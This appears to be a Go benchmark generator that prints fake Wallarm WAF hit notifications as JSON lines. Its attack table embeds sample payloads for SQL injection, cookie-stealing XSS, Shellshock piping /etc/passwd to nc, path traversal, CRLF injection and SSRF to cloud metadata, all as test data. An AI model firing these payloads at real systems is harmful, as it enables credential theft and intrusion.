//go:build bench && linux

package main

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"strconv"
)

// mark stands before the number of an event, and nowhere else in one.
const mark = '~'

// What hits are made of; in Go syntax, so that %s of a quoted one is JSON.
var (
	attacks = []struct{ kind, point, payload string }{
		{"sqli", `"get","id"`, `1' UNION SELECT login, password FROM \"users\" WHERE 'a'='a`},
		{"xss", `"post","form_urlencoded","comment"`, `\"><svg onload=\"fetch('\/\/198.51.100.9\/'+document.cookie)\">`},
		{"rce", `"header","USER-AGENT"`, "() { :; }; cat \\/etc\\/passwd | nc 203.0.113.4 9001"},
		{"ptrav", `"uri"`, `..\\..\\..\\windows\\win.ini\u0000.jpg`},
		{"crlf", `"get","next"`, `\r\nSet-Cookie: id=1\r\n\r\n`},
		{"ssrf", `"post","json","callback"`, `http:\/\/169.254.169.254\/latest\/meta-data\/iam`},
	}
	hosts   = []string{"shop", "api", "café", "kunden", "магазин", "intranet", "日本"}
	paths   = []string{"cart", "login", "v2/orders", "search", "über-uns", "upload/image", "graphql"}
	methods = []string{"GET", "POST", "PUT", "DELETE"}
	agents  = []string{"Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", "curl/8.14.1", "python-requests/2.32"}
)

// printEvents is the role that writes events to stdout: events COUNT.
func printEvents(_ context.Context, args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("got %d arguments; it takes the number of events", len(args))
	}
	n, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	return writeEvents(os.Stdout, n)
}

// writeEvents writes n events, numbered from 0, one on a line, always the same.
// A line has 1033 bytes on average.
func writeEvents(w io.Writer, n int) error {
	out := bufio.NewWriterSize(w, 1<<20)
	return errors.Join(writeEach(out, n), out.Flush())
}

// writeEach writes them with a call for each.
func writeEach(w io.Writer, n int) error {
	r := rand.New(rand.NewPCG(2026, 11))
	var line []byte
	for i := range n {
		line = appendEvent(line[:0], r, i)
		if _, err := w.Write(line); err != nil {
			return err
		}
	}
	return nil
}

func one[T any](r *rand.Rand, of []T) T { return of[r.IntN(len(of))] }

// appendEvent appends a hit as Wallarm notifies it, and a line end.
func appendEvent(b []byte, r *rand.Rand, number int) []byte {
	a := one(r, attacks)
	at := 1_790_000_000 + number/200
	b = fmt.Appendf(b, `{"summary":"[Wallarm] New hit detected","details":{"client_name":"Customer %d","cloud":"EU","notification_type":"new_hits","hit":{`, r.IntN(50))
	b = fmt.Appendf(b, `"domain":"%s-%d.example.com","heur_distance":%.4f,"method":"%s","parameter":"FIELD_%d_value","path":"/%s/%d","payloads":[`,
		one(r, hosts), r.IntN(400), r.Float64(), one(r, methods), r.IntN(1000), one(r, paths), r.IntN(100_000))
	for k := range 1 + r.IntN(2) {
		if k > 0 {
			b = append(b, ',')
		}
		b = fmt.Appendf(b, `"%s #%x"`, one(r, attacks).payload, r.Uint64())
	}
	b = fmt.Appendf(b, `],"point":[%s],"probability":%.2f,"remote_country":"PL","remote_port":%d,"remote_addr4":"198.51.%d.%d","remote_addr6":"","tor":"none",`,
		a.point, r.Float64(), 1024+r.IntN(60_000), r.IntN(256), r.IntN(256))
	b = fmt.Appendf(b, `"request_time":%d,"create_time":%d,"response_len":%d,"response_status":%d,"response_time":%d,"stamps":[%d`,
		at, at+3, r.IntN(40_000), 200+100*r.IntN(4), r.IntN(900), r.IntN(20_000))
	for range r.IntN(6) {
		b = fmt.Appendf(b, `,%d`, r.IntN(20_000))
	}
	b = fmt.Appendf(b, `],"regex":[],"stamps_hash":-%d,"regex_hash":-%d,"type":"%s","block_status":"monitored","id":["hits_production_%d_202611_v_1","%016x"],`,
		r.IntN(1<<31), r.IntN(1<<31), a.kind, r.IntN(900), r.Uint64())
	b = fmt.Appendf(b, `"object_type":"hit","anomaly":%.3f,"experimental":false,"sampled":true,"user_agent":"%s","application":{"id":%d,"name":"app №%d"},`,
		r.Float64(), one(r, agents), r.IntN(50), r.IntN(50))
	return fmt.Appendf(b, `"request_id":"%016x%c%d"}}}`+"\n", r.Uint64(), mark, number)
}
